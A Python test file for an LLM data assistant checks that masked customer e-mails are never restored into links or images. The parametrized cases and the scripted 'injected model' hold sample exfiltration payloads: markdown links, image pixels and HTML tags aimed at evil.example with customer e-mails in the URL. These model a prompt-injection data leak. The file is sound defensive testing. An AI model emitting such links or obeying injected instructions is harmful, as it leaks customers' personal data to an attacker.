"""Issue 14, High 3: in LLM mode a prompt-injected model must not get masked customer PII
restored into links (one click away in the web chat, zero clicks for images in OpenAI UIs).
And (Low) the audit ``detail`` keeps no customer names."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import openai
import pytest

from api.app import create_app
from assistant.audit import AuditLog
from assistant.links import SafeText, safe_unmask
from assistant.pii import PIIVault
from assistant.testing import ScriptedOpenAIServer, ScriptedReply, ScriptedToolCall
from foundation.scopes import EVERY_SCOPE
from foundation.settings import MaraSettings
from tests.conftest import build_tiny_warehouse
from tests.test_api import LiveServer

EMAIL = "anna.schmidt@example.com"


@pytest.fixture
def vault() -> PIIVault:
    vault = PIIVault()
    assert vault.mask(EMAIL) == "<EMAIL_1>"
    return vault


def test_placeholders_in_plain_text_are_restored(vault: PIIVault) -> None:
    assert safe_unmask("Write to <EMAIL_1>.", vault) == f"Write to {EMAIL}."


def test_markdown_link_to_a_foreign_host_becomes_text_naming_it(vault: PIIVault) -> None:
    shown = safe_unmask("[verify](https://evil.example/collect?d=<EMAIL_1>)", vault)
    assert shown == "verify (link to evil.example removed)"


def test_image_to_a_foreign_host_becomes_text_naming_it(vault: PIIVault) -> None:
    shown = safe_unmask("![logo](https://evil.example/p.png?u=<EMAIL_1>)", vault)
    assert shown == "logo (image from evil.example removed)"


@pytest.mark.parametrize(
    "attack",
    [
        "see https://evil.example/c?d=<EMAIL_1> now",
        "see www.evil.example/c?d=<EMAIL_1> now",
        '<a href="https://evil.example/?<EMAIL_1>">here</a>',
        "<img src=https://evil.example/<EMAIL_1>>",
        "[x](//evil.example/<EMAIL_1>)",
        "[x](/\\evil.example/<EMAIL_1>)",
        "[x](javascript:alert(<EMAIL_1>))",
        "evil.example/c?d=<EMAIL_1>",
    ],
)
def test_no_url_form_gets_the_value_back(vault: PIIVault, attack: str) -> None:
    assert EMAIL not in safe_unmask(attack, vault)


def test_relative_and_allowed_links_are_kept_with_placeholders_masked(vault: PIIVault) -> None:
    text = "[table](/v1/artifacts/a1.csv) and [guide](https://docs.example.com/p?u=<EMAIL_1>)"
    assert safe_unmask(text, vault, ("docs.example.com",)) == text


def test_streamed_text_renders_like_the_whole_reply(vault: PIIVault) -> None:
    reply = "Hi <EMAIL_1>. [Verify here](https://evil.example/c?d=<EMAIL_1>) or ![p](https://e.example/<EMAIL_1>) ok"
    for size in (1, 3, 7):
        stream = SafeText(vault)
        pieces = [stream.feed(reply[i : i + size]) for i in range(0, len(reply), size)]
        assert "".join(pieces) + stream.flush() == safe_unmask(reply, vault)


# --- through the real stack: scripted OpenAI server, LangChain, Mara's OpenAI endpoint --------


def _injected_model(body: dict[str, Any]) -> ScriptedReply:
    """A model obeying a prompt-injected brand document: it smuggles e-mails into links."""
    results = [m for m in body["messages"] if m["role"] == "tool"]
    if not results:
        sql = "SELECT first_name, last_name, email FROM customers ORDER BY customer_id LIMIT 3"
        return ScriptedReply(tool_calls=[ScriptedToolCall("run_sql", {"sql": sql})])
    seen = results[-1]["content"]
    emails = ",".join(re.findall(r"<EMAIL_\d+>", seen))
    first, last = re.findall(r"<FIRST_NAME_\d+>", seen)[0], re.findall(r"<LAST_NAME_\d+>", seen)[0]
    return ScriptedReply(
        content=f"Your first customer is {first} {last}. [verify](https://evil.example/collect?d={emails}) "
        f"![](https://evil.example/pixel.png?d={emails})"
    )


@pytest.fixture(scope="module")
def llm_api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    home = tmp_path_factory.mktemp("links") / "ws"
    home.mkdir()
    build_tiny_warehouse(home / "warehouse.duckdb")
    with ScriptedOpenAIServer(_injected_model) as model:
        settings = MaraSettings(  # type: ignore[call-arg]
            home=home, llm_base_url=model.base_url, llm_max_retries=0, _env_file=None
        )
        with LiveServer(create_app(settings)) as server:
            sdk = openai.OpenAI(base_url=f"{server.url}/v1", api_key="unused", max_retries=0)
            yield {"sdk": sdk, "home": home}


@pytest.mark.integration
def test_openai_client_gets_no_customer_email_in_any_link(llm_api: dict[str, Any]) -> None:
    reply = llm_api["sdk"].chat.completions.create(
        model="mara", messages=[{"role": "user", "content": "Who are our first customers?"}]
    )
    content = reply.choices[0].message.content or ""
    assert "Anna Schmidt" in content  # plain text is still restored
    assert "(link to evil.example removed)" in content
    assert "evil.example/" not in content  # the link target, with its e-mails, is gone


@pytest.mark.integration
def test_streamed_openai_reply_has_no_customer_email_either(llm_api: dict[str, Any]) -> None:
    stream = llm_api["sdk"].chat.completions.create(
        model="mara", messages=[{"role": "user", "content": "Who are our first customers?"}], stream=True
    )
    content = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert "(image from evil.example removed)" in content
    assert "evil.example/" not in content


@pytest.mark.integration
def test_audit_detail_keeps_no_customer_names(llm_api: dict[str, Any]) -> None:
    llm_api["sdk"].chat.completions.create(
        model="mara", messages=[{"role": "user", "content": "Who is our first customer?"}]
    )
    details = [r.detail or "" for r in AuditLog(llm_api["home"] / "audit.sqlite").query() if r.kind == "turn"]
    assert details and all("Schmidt" not in d for d in details)


@pytest.mark.integration
def test_text_streamed_before_a_tool_call_is_not_cut(tmp_path: Any) -> None:
    """The unmasker holds back the last word of streamed text; a step ending in tool calls
    must still let it out."""
    from assistant.agent import Assistant

    build_tiny_warehouse(tmp_path / "warehouse.duckdb")
    replies = [
        ScriptedReply(content="Let me count them", tool_calls=[
            ScriptedToolCall("run_sql", {"sql": "SELECT count(*) AS n FROM customers"})]),
        ScriptedReply(content="You have 6 customers."),
    ]
    with ScriptedOpenAIServer(replies) as model:
        settings = MaraSettings(  # type: ignore[call-arg]
            home=tmp_path, llm_base_url=model.base_url, llm_max_retries=0, _env_file=None
        )
        with Assistant(settings) as assistant:
            events = list(assistant.stream("How many customers?", scopes=EVERY_SCOPE))
    streamed = "".join(e.data["delta"] for e in events if e.type == "text")
    assert streamed.startswith("Let me count them")
